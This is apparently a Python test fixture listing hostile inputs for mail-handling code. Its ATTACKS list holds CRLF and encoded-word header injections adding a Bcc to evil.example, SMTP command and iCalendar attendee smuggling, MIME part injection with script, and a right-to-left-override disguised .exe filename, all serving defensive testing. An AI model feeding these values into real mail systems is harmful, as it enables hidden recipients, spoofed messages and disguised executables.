"""What somebody may write into any field to get a header, a recipient or a date of their own out of a mail."""

import base64


def hidden(header: str) -> str:
    return f"=?utf-8?q?a=0d=0a{header}?="


ATTACKS = [
    "a\r\nBcc: x@evil.example",
    "a\nBcc: x@evil.example",
    "a\rBcc: x@evil.example",
    "a\r\n\r\n<script>",
    "a\x00b",
    "a\u2028Bcc: x@evil.example",
    "a\u2029Bcc: x@evil.example",
    "a\x85Bcc: x@evil.example",
    "a\x0bBcc: x\x0c@evil.example",
    "invoice\u202egpj.exe",
    "\u2066isolated\u2069",
    "a\ud800b",
    hidden("Bcc:_x@evil.example"),
    f"=?utf-8?b?{base64.b64encode(b'a' + bytes((13, 10)) + b'Bcc: x@evil.example').decode()}?=",
    "=\u202e?utf-8?q?a=0d=0aBcc:_x@evil.example?=",
    "=\r\n?utf-8?q?a=0d=0aBcc:_x@evil.example?=",
    "=?=?utf-8?q?a=0d=0aBcc:_x@evil.example?=",
    f"{hidden('Bcc:_x@evil.example')} {'и' * 80}",
    "x" * 5000,
    "é" * 5000,
    "",
    " ",
    '"a" <x@evil.example>, b@evil.example',
    "a@x.example, b@x.example",
    "A <a@x.example>",
    '"a@x.example <evil@evil.example>"',
    "a@x.example\r\nRCPT TO:<evil@evil.example>",
    "a\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:evil@evil.example",
    "a\\nATTENDEE:mailto:evil@evil.example",
    "\N{FIRE}\N{VARIATION SELECTOR-16}\N{FAMILY}" * 20,
    "\N{ZERO WIDTH SPACE}\N{LEFT-TO-RIGHT MARK}\N{BYTE ORDER MARK}\N{SOFT HYPHEN}",
    "--=_0\r\nContent-Type: text/html\r\n\r\n<script>",
    "a;b:c@d,e\\f",
]
